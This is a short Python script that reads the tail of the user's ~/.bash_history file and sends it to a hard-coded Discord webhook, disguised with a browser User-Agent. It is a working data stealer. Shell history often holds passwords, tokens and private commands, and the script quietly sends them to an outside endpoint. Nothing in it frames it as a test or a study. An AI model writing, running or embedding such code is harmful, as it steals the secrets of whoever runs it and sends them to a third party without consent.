import json, os, urllib.request

WEBHOOK = "https://discord.com/api/webhooks/1122334455/AbCdEfGhIjKlMnOp"
hist = os.path.expanduser("~/.bash_history")
text = open(hist, errors="ignore").read()[-1900:]

data = json.dumps({"content": "```" + text + "```"}).encode()
req = urllib.request.Request(WEBHOOK, data=data, headers={"Content-Type": "application/json",
                                                          "User-Agent": "Mozilla/5.0"})
urllib.request.urlopen(req)
